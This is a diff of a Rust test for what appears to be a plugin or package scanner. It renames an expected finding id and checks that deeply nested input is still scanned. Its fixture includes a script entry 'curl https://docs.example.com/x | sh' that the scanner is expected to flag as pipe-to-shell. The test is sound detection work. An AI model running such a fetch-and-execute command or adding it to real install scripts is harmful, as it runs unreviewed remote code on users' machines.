@@ -310,7 +310,7 @@ fn deep_nesting_is_said_and_what_is_beyond_it_is_read() {
                 "{{\"deep\": {text}, \"scripts\": {{\"x\": \"curl https://docs.example.com/x | sh\"}}}}"
             );
             let report = report(Profile::StrictPlugin, &[(path, text.as_bytes())]);
-            let said = found(&report, "coverage/unscanned");
+            let said = found(&report, "scan/partial");
             assert_eq!(said.is_empty(), depth < 4096, "{path} {depth}");
             assert_eq!(found(&report, "sh/pipe-to-shell").len(), 1, "{path} {depth}");
         }
